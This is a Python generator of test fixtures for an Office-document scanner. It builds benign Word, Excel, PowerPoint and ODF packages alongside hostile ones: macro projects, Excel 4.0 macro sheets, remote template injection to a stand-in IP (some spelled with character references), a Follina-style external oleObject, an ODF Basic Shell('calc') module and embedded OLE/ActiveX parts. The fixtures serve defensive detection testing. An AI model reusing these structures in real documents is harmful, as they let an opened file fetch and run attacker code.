#!/usr/bin/python3
"""Office documents (OOXML and ODF) for libimsafe/ooxml.c, checked by
tests/test_fixtures.c through tests/expect/office.tsv.

Two sources: packages written part by part with Python's zipfile, each
benign one holding what real documents hold (hyperlinks, pictures,
comments, an online video) and each hostile one a single way to run code
(a VBA project, macro-enabled content types, an Excel 4.0 macro sheet, a
remote template, Follina's external oleObject, ActiveX, embedded OLE,
ODF Basic and Scripts); and documents written by real libraries,
python-docx (its default template was saved by Word), openpyxl and odfpy,
run through $IMSAFE_PYTHON_OFFICE.

Usage: gen_office.py OUTDIR    (writes OUTDIR/office/*)
"""
import io
import os
import struct
import subprocess
import sys
import zipfile
import zlib

DATE = (2024, 1, 1, 12, 0, 0)
# the first bytes of a compound file (MS-CFB): what vbaProject.bin and
# embedded OLE objects are
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(24) + b"\x3e\x00\x03\x00\xfe\xff" + bytes(474)


def png_chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


# a 1x1 RGBA picture
PNG = (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
       + png_chunk(b"IDAT", zlib.compress(b"\0\x10\x20\x30\xff")) + png_chunk(b"IEND", b""))

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MSR = "http://schemas.microsoft.com/office/2006/relationships/"
CT_DOC = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CT_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
CT_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CT_XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
CT_PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"


def content_types(overrides, defaults=()):
    d = [("rels", "application/vnd.openxmlformats-package.relationships+xml"),
         ("xml", "application/xml"), ("png", "image/png")] + list(defaults)
    out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">']
    out += ['<Default Extension="%s" ContentType="%s"/>' % x for x in d]
    out += ['<Override PartName="%s" ContentType="%s"/>' % x for x in overrides]
    return ("".join(out) + "</Types>").encode()


def rels(items, prefix="", extra=""):
    """items: (id, type, target, external) -> a relationships part."""
    p = prefix + ":" if prefix else ""
    ns = ('xmlns:%s="http://schemas.openxmlformats.org/package/2006/relationships"' % prefix
          if prefix else 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"')
    out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<%sRelationships %s>'
           % (p, ns), extra]
    for rid, typ, target, ext in items:
        mode = ' TargetMode="%s"' % ext if ext else ""
        out.append('<%sRelationship Id="%s" Type="%s" Target="%s"%s/>' % (p, rid, typ, target, mode))
    return ("".join(out) + "</%sRelationships>" % p).encode()


def package(parts):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts:
            z.writestr(zipfile.ZipInfo(name, DATE), data, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def write(d, name, data):
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


DOC_XML = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
           b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
           b'<w:body><w:p><w:r><w:t>Quarterly report &amp; minutes</w:t></w:r></w:p>'
           b'<w:p><w:hyperlink r:id="rId9"><w:r><w:t>the figures</w:t></w:r></w:hyperlink></w:p>'
           b'</w:body></w:document>')
ROOT_RELS = rels([("rId1", R + "officeDocument", "word/document.xml", None)])


def docx(doc_rels=(), more=(), main_ct=CT_DOC, overrides=(), defaults=(), settings_rels=None):
    """A word-processing package; doc_rels are added to the document's
    relationships beside an ordinary hyperlink, picture and comments."""
    items = [("rId9", R + "hyperlink", "https://example.org/figures?q=1&amp;r=2", "External"),
             ("rId2", R + "image", "media/image1.png", None),
             ("rId3", R + "comments", "comments.xml", None),
             ("rId4", R + "settings", "settings.xml", None)] + list(doc_rels)
    parts = [("[Content_Types].xml",
              content_types([("/word/document.xml", main_ct)] + list(overrides), defaults)),
             ("_rels/.rels", ROOT_RELS),
             ("word/document.xml", DOC_XML),
             ("word/_rels/document.xml.rels", rels(items)),
             ("word/media/image1.png", PNG),
             ("word/comments.xml", b'<?xml version="1.0"?><w:comments xmlns:w="urn:w"/>'),
             ("word/settings.xml", b'<?xml version="1.0"?><w:settings xmlns:w="urn:w"/>')]
    if settings_rels is not None:
        parts.append(("word/_rels/settings.xml.rels", settings_rels))
    return package(parts + list(more))


def xlsx(more=(), main_ct=CT_XLSX, wb_rels=()):
    items = [("rId1", R + "worksheet", "worksheets/sheet1.xml", None)] + list(wb_rels)
    parts = [("[Content_Types].xml", content_types([("/xl/workbook.xml", main_ct)])),
             ("_rels/.rels", rels([("rId1", R + "officeDocument", "xl/workbook.xml", None)])),
             ("xl/workbook.xml", b'<?xml version="1.0"?><workbook xmlns="urn:x"/>'),
             ("xl/_rels/workbook.xml.rels", rels(items)),
             ("xl/worksheets/sheet1.xml", b'<?xml version="1.0"?><worksheet xmlns="urn:x"/>'),
             ("xl/worksheets/_rels/sheet1.xml.rels",
              rels([("rId1", R + "hyperlink", "mailto:finance@example.org", "External")]))]
    return package(parts + list(more))


def pptx(more=(), slide_rels=()):
    items = [("rId1", R + "slideLayout", "../slideLayouts/slideLayout1.xml", None),
             ("rId2", R + "video", "https://www.youtube.com/embed/abc", "External"),
             ("rId3", MSR.replace("2006", "2007") + "media", "https://www.youtube.com/embed/abc",
              "External"),
             ("rId4", R + "image", "../media/image1.png", None)] + list(slide_rels)
    parts = [("[Content_Types].xml", content_types([("/ppt/presentation.xml", CT_PPTX)])),
             ("_rels/.rels", rels([("rId1", R + "officeDocument", "ppt/presentation.xml", None)])),
             ("ppt/presentation.xml", b'<?xml version="1.0"?><p:presentation xmlns:p="urn:p"/>'),
             ("ppt/slides/slide1.xml", b'<?xml version="1.0"?><p:sld xmlns:p="urn:p"/>'),
             ("ppt/slides/_rels/slide1.xml.rels", rels(items)),
             ("ppt/media/image1.png", PNG)]
    return package(parts + list(more))


def odf(more=(), mimetype=b"application/vnd.oasis.opendocument.text"):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        # ODF 1.2 section 3.3: "mimetype" first and stored
        z.writestr(zipfile.ZipInfo("mimetype", DATE), mimetype, zipfile.ZIP_STORED)
        for name, data in [("content.xml", b'<?xml version="1.0"?><office:document-content '
                            b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
                            b'<office:body><office:text/></office:body></office:document-content>'),
                           ("META-INF/manifest.xml",
                            b'<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:m"/>')
                           ] + list(more):
            z.writestr(zipfile.ZipInfo(name, DATE), data, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def benign(d):
    write(d, "benign.docx", docx())
    write(d, "benign.xlsx", xlsx())
    write(d, "benign.pptx", pptx())
    write(d, "benign.odt", odf([("Pictures/image1.png", PNG),
                                ("Basic/script-lc.xml", b'<?xml version="1.0"?><library/>'),
                                ("Basic/Standard/script-lb.xml", b'<?xml version="1.0"?><lib/>')]))
    # an embedded workbook (a chart's data) is a package of its own, walked
    write(d, "embedded_xlsx.docx", docx(
        [("rId7", R + "package", "embeddings/Microsoft_Excel_Worksheet.xlsx", None)],
        [("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx())]))
    # printer settings are binary, but no compound file
    write(d, "printer_settings.xlsx", xlsx([("xl/printerSettings/printerSettings1.bin",
                                             b"DEVMODE" + bytes(200))]))
    # the hyperlink's mode spelled with character references, prefixed
    # element names, a comment and a CDATA section in the part
    odd = rels([("rId1", R + "hyperlink", "https://example.org/", "&#x45;xtern&#97;l")],
               prefix="pr", extra="<!-- a <comment> --><![CDATA[ <Relationship ]]>")
    write(d, "hyperlink_encoded.docx", docx(more=[("word/_rels/footnotes.xml.rels", odd)]))
    # made from a local template: Word records it as an external relationship
    write(d, "template_local.docx", docx(settings_rels=rels(
        [("rId1", R + "attachedTemplate",
          "file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Report.dotx",
          "External")])))


def macros(d):
    vba = [("rId8", MSR + "vbaProject", "vbaProject.bin", None)]
    write(d, "macro.docm", docx(vba, [("word/vbaProject.bin", OLE2)], main_ct=CT_DOCM,
                                defaults=[("bin", "application/vnd.ms-office.vbaProject")]))
    # the VBA project under another name: the relationship type and the
    # content type still say what it is
    write(d, "macro_renamed.docx", docx(
        [("rId8", MSR + "vbaProject", "data.dat", None)], [("word/data.dat", OLE2)],
        defaults=[("dat", "application/vnd.ms-office.vbaProject")]))
    write(d, "macro_rel_only.docx", docx([("rId8", MSR + "vbaProject", "media/data.png", None)]))
    write(d, "macro_content_type.xlsm", xlsx(main_ct=CT_XLSM))
    write(d, "macro_name_only.pptx", pptx([("ppt/vbaProject.bin", b"not even a compound file")]))
    # Excel 4.0 macro sheet in an ordinary .xlsx
    write(d, "xlm_macrosheet.xlsx", xlsx(
        [("xl/macrosheets/sheet2.xml", b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="urn:x"/>')],
        wb_rels=[("rId2", MSR + "xlMacrosheet", "macrosheets/sheet2.xml", None)]))
    write(d, "basic.odt", odf([("Basic/Standard/Module1.xml",
                                b'<?xml version="1.0"?><script:module xmlns:script="urn:s">'
                                b'Sub Main\nShell("calc")\nEnd Sub</script:module>')]))
    write(d, "scripts_python.ods", odf([("Scripts/python/macro.py", b"import os\n")],
                                      b"application/vnd.oasis.opendocument.spreadsheet"))
    write(d, "scripts_beanshell.odt", odf([("Scripts/beanshell/Lib/Macro1.bsh", b"exec(x);\n")]))
    # a macro document inside an ordinary archive
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("invoice.docm", DATE), open(os.path.join(d, "macro.docm"),
                                                                "rb").read())
    write(d, "nested_macro.zip", buf.getvalue())


def active(d):
    ext = "External"
    write(d, "template_injection.docx", docx(settings_rels=rels(
        [("rId1", R + "attachedTemplate", "http://203.0.113.9/Normal.dotm", ext)])))
    write(d, "template_unc_file.docx", docx(settings_rels=rels(
        [("rId1", R + "attachedTemplate", "file://203.0.113.9/share/Normal.dotm", ext)])))
    write(d, "template_webdav.docx", docx(settings_rels=rels(
        [("rId1", R + "attachedTemplate", "file:///\\\\203.0.113.9@SSL\\t.dotm", ext)])))
    # the same with the mode and type spelled with references and prefixes
    write(d, "template_injection_encoded.docx", docx(settings_rels=rels(
        [("rId1", R.replace("/r", "/&#x72;") + "attachedTempl&#97;te",
          "\\\\203.0.113.9\\share\\t.dotm", "&#69;xternal")], prefix="x")))
    write(d, "follina.docx", docx([("rId8", R + "oleObject",
                                    "mhtml:http://203.0.113.9/x.html!x-usc:http://203.0.113.9/"
                                    "x.html", ext)]))
    write(d, "frame_external.docx", docx([("rId8", R + "frame", "http://203.0.113.9/f.rtf", ext)]))
    write(d, "subdocument_external.docx", docx([("rId8", R + "subDocument",
                                                 "http://203.0.113.9/s.docx", ext)]))
    write(d, "image_unc.docx", docx([("rId8", R + "image", "file://203.0.113.9/share/a.png", ext)]))
    write(d, "unlisted_external.docx", docx([("rId8", R + "somethingNew",
                                              "http://203.0.113.9/", ext)]))
    write(d, "external_link.xlsx", xlsx(
        more=[("xl/externalLinks/_rels/externalLink1.xml.rels",
               rels([("rId1", R + "externalLinkPath", "file:///\\\\203.0.113.9\\b.xlsx", ext)]))]))
    write(d, "ole_embedded.docx", docx([("rId8", R + "oleObject", "embeddings/oleObject1.bin", None)],
                                       [("word/embeddings/oleObject1.bin", OLE2)]))
    write(d, "ole_renamed.pptx", pptx([("ppt/media/image2.png", OLE2)]))
    write(d, "activex.docx", docx(more=[("word/activeX/activeX1.xml",
                                         b'<?xml version="1.0"?><ax:ocx xmlns:ax="urn:a"/>')]))
    write(d, "activex_content_type.xlsx", package([
            ("[Content_Types].xml", content_types(
                [("/xl/workbook.xml", CT_XLSX),
                 ("/xl/ctrl/c1.xml", "application/vnd.ms-office.activeX+xml")])),
            ("_rels/.rels", rels([("rId1", R + "officeDocument", "xl/workbook.xml", None)])),
            ("xl/workbook.xml", b'<?xml version="1.0"?><workbook xmlns="urn:x"/>'),
            ("xl/ctrl/c1.xml", b'<?xml version="1.0"?><ax:ocx xmlns:ax="urn:a"/>')]))
    write(d, "ole.odt", odf([("Object 1", OLE2)]))


def malformed(d):
    doctype = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY m "External">]>'
               b'<Relationships><Relationship Id="a" Type="' + R.encode() +
               b'attachedTemplate" Target="http://203.0.113.9/" TargetMode="&m;"/></Relationships>')
    write(d, "rels_doctype.docx", docx(settings_rels=doctype))
    unknown = rels([("rId1", R + "hyperlink", "https://example.org/&nbsp;", "External")])
    write(d, "rels_unknown_entity.docx", docx(settings_rels=unknown))
    write(d, "rels_unterminated.docx", docx(settings_rels=b'<Relationships><Relationship Id="a'))
    write(d, "rels_unquoted.docx", docx(settings_rels=b"<Relationships><Relationship Id=a/>"))
    write(d, "rels_bad_charref.docx", docx(settings_rels=b'<Relationships><Relationship '
                                           b'Id="&#x110000;"/></Relationships>'))
    # a relationships part just over the 16 MiB the scanner reads
    big = rels([("rId1", R + "hyperlink", "https://example.org/", "External")],
               extra="<!--" + " " * (16 << 20) + "-->")
    write(d, "rels_too_big.docx", docx(settings_rels=big))


REAL = r'''
import sys, os, io
out = sys.argv[1]
import docx, openpyxl
from odf.opendocument import OpenDocumentText
from odf.text import P, H
doc = docx.Document()
doc.add_heading("Minutes", 0)
doc.add_paragraph("Present: everyone. Nothing to report.")
t = doc.add_table(rows=2, cols=2)
t.cell(0, 0).text = "item"
doc.add_picture(io.BytesIO(bytes.fromhex(sys.argv[2])))
doc.core_properties.author = "libimsafe tests"
doc.save(os.path.join(out, "real_python_docx.docx"))
wb = openpyxl.Workbook()
ws = wb.active
ws["A1"] = "figures"
ws["A2"] = 42
ws["B1"].hyperlink = "https://example.org/report"
ws.append([1, 2, 3])
wb.create_sheet("second")["C3"] = "=SUM(1,2)"
wb.save(os.path.join(out, "real_openpyxl.xlsx"))
odt = OpenDocumentText()
odt.text.addElement(H(outlinelevel=1, text="Minutes"))
odt.text.addElement(P(text="Nothing to report."))
odt.save(os.path.join(out, "real_odfpy.odt"))
'''


def real(d):
    py = os.environ.get("IMSAFE_PYTHON_OFFICE")
    if not py:
        sys.exit("gen_office.py: IMSAFE_PYTHON_OFFICE is not set (configure finds it)")
    subprocess.run([py, "-c", REAL, d, PNG.hex()], check=True)


def main():
    d = os.path.join(sys.argv[1], "office")
    os.makedirs(d, exist_ok=True)
    for make in (benign, macros, active, malformed, real):
        make(d)


if __name__ == "__main__":
    main()
